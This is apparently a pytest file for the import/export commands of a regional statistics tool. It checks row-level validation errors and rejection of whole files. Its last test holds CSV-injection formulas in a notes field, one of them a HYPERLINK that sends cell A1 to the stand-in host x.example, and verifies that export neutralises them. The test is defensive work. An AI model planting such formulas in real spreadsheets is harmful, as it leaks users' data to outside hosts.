"""Import/export of values: bad input gets a clear error naming file, row and column; nothing is written."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from typer.testing import CliRunner

from liangshan.cli import app
from liangshan.demo.build import PROFILE
from liangshan.store.db import session_scope
from liangshan.store.models import AuditLog, Submission
from liangshan.store.regions import load_profile
from liangshan.store.service import ensure_db

HEADER = ["region", "item", "year", "value", "unit", "note"]
GOOD = [
    ["411224", "air_good_days", "2025", "330", "天", ""],
    ["411224", "air_valid_days", "2025", "365", "", ""],
    ["411224", "gdp", "2025", "1,497,000", "万元", "统计公报"],
    ["411224", "system_issued", "2025", "是", "", ""],
    ["411224", "17", "2024", "96.2", "%", "直接填报指标值"],
]


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


@pytest.fixture
def lushi(db: str) -> str:
    ensure_db(db)
    with session_scope(db) as s:
        load_profile(s, PROFILE)
    return db


def count(url: str) -> tuple[int, int]:
    with session_scope(url) as s:
        return (
            s.scalar(select(func.count()).select_from(Submission)) or 0,
            s.scalar(select(func.count()).select_from(AuditLog)) or 0,
        )


def invoke(*args: str):
    return CliRunner().invoke(app, list(args))


def test_import_good_file_then_export_roundtrip(lushi: str, tmp_path: Path) -> None:
    f = write_csv(tmp_path / "in.csv", GOOD)
    res = invoke("import", str(f), "--db", lushi, "--approve", "--json")
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["imported"] == 5
    out = tmp_path / "out.xlsx"
    res = invoke("export", "--db", lushi, "--out", str(out), "--format", "xlsx")
    assert res.exit_code == 0, res.output
    rows = list(load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert rows[0][:5] == ("region", "item", "item_name", "year", "value")
    gdp = next(r for r in rows if r[1] == "gdp")
    assert gdp[4] == 1497000 and gdp[6] == "approved" and gdp[7] == 1
    # the export imports again (after reopening nothing: approved values are locked → clear refusal)
    res = invoke("import", str(out), "--db", lushi)
    assert res.exit_code == 2 and "锁定" in res.stderr


def test_xlsx_import_with_chinese_headers(lushi: str, tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["地区代码", "指标或数据元素", "年份", "数值", "单位", "备注"])
    ws.append([411224, "地区生产总值（GDP，当年价）", 2024, 1431000, "万元", None])
    p = tmp_path / "in.xlsx"
    wb.save(p)
    res = invoke("import", str(p), "--db", lushi, "--json")
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["submissions"][0]["item"] == "gdp"


BAD_CASES = [
    (["411224", "air_goood_days", "2025", "330", "", ""], "列“item”：未知指标或数据元素“air_goood_days”"),
    (["411224", "21", "2025", "1", "", ""], "列“item”：未知指标或数据元素“21”"),
    (["411224", "gdp", "2019", "1", "", ""], "列“year”：2019 不在评估批次年份 2023—2025 内"),
    (["411224", "gdp", "二〇二五", "1", "", ""], "列“year”：年份应为整数"),
    (["411224", "gdp", "2025", "约一百亿", "", ""], "列“value”：应为数值，收到“约一百亿”"),
    (["411224", "gdp", "2025", "-5", "", ""], "列“value”：不能为负数"),
    (["411224", "1", "2025", "104.2", "", ""], "环境空气质量优良天数比例不能超过 100%"),
    (["411224", "air_good_days", "2025", "367", "", ""], "优良天数不能超过 366天"),
    (["411224", "air_good_days", "2025", "300.5", "", ""], "优良天数应为整数"),
    (["411224", "system_issued", "2025", "也许", "", ""], "列“value”：应为 是/否"),
    (["411224", "gdp", "2025", "1", "亿元", ""], "列“unit”：单位应为“万元”，收到“亿元”"),
    (["999999", "gdp", "2025", "1", "", ""], "列“region”：未知地区代码“999999”"),
]


@pytest.mark.parametrize(("bad", "message"), BAD_CASES)
def test_bad_row_rejects_whole_file(lushi: str, tmp_path: Path, bad: list[str], message: str) -> None:
    before = count(lushi)
    f = write_csv(tmp_path / "bad.csv", [*GOOD, bad])
    res = invoke("import", str(f), "--db", lushi)
    assert res.exit_code == 2
    assert "bad.csv" in res.stderr and "第 7 行" in res.stderr and message in res.stderr
    assert "未写入任何数据" in res.stderr
    assert count(lushi) == before


def test_duplicate_and_cross_field_errors(lushi: str, tmp_path: Path) -> None:
    rows = [*GOOD, ["411224", "gdp", "2025", "2", "", ""], ["411224", "air_good_days", "2024", "370", "", ""]]
    rows[1] = ["411224", "air_valid_days", "2025", "300", "", ""]  # good 330 > valid 300
    f = write_csv(tmp_path / "dup.csv", rows)
    res = invoke("import", str(f), "--db", lushi)
    assert res.exit_code == 2
    assert "第 7 行，列“item”：与第 4 行重复" in res.stderr
    assert "第 8 行，列“value”：优良天数不能超过 366天" in res.stderr
    assert "第 2、3 行：2025年 环境空气质量优良天数比例 = 110.0%，超过 100%（分子不能大于分母）" in res.stderr
    assert count(lushi) == (0, count(lushi)[1])


def test_missing_column_and_wrong_type(lushi: str, tmp_path: Path) -> None:
    f = write_csv(tmp_path / "nocol.csv", [["411224", "gdp", "2025"]], header=["region", "item", "year"])
    res = invoke("import", str(f), "--db", lushi)
    assert res.exit_code == 2 and "缺少列 value（数值）" in res.stderr
    txt = tmp_path / "values.txt"
    txt.write_text("x", encoding="utf-8")
    res = invoke("import", str(txt), "--db", lushi)
    assert res.exit_code == 2 and "只支持 .csv 或 .xlsx" in res.stderr


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_neutralises_formulas_in_notes(lushi: str, tmp_path: Path, fmt: str) -> None:
    rows = [
        ["411224", "gdp", "2025", "1497000", "万元", "=1+1"],
        ["411224", "air_good_days", "2025", "330", "天", '=HYPERLINK("http://x.example/?"&A1,"点击")'],
        ["411224", "air_valid_days", "2025", "365", "", "@SUM(A1)"],
    ]
    f = write_csv(tmp_path / "in.csv", rows)
    res = invoke("import", str(f), "--db", lushi, "--json")
    assert res.exit_code == 0, res.output
    out = tmp_path / f"out.{fmt}"
    res = invoke("export", "--db", lushi, "--out", str(out), "--format", fmt)
    assert res.exit_code == 0, res.output
    if fmt == "xlsx":
        ws = load_workbook(out).worksheets[0]
        notes = {r[1].value: r[8] for r in ws.iter_rows(min_row=2)}
        assert notes["gdp"].value == "=1+1" and notes["gdp"].data_type == "s"
        assert all(c.data_type == "s" and c.quotePrefix for c in notes.values())
        values = {r[1].value: r[4] for r in ws.iter_rows(min_row=2)}
        assert values["gdp"].value == 1497000 and values["gdp"].data_type == "n"
    else:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            got = {r["item"]: r for r in csv.DictReader(fh)}
        assert got["gdp"]["note"] == "'=1+1"
        assert got["air_good_days"]["note"].startswith("'=HYPERLINK")
        assert got["air_valid_days"]["note"] == "'@SUM(A1)"
        assert got["gdp"]["value"] == "1497000.0" or got["gdp"]["value"] == "1497000"
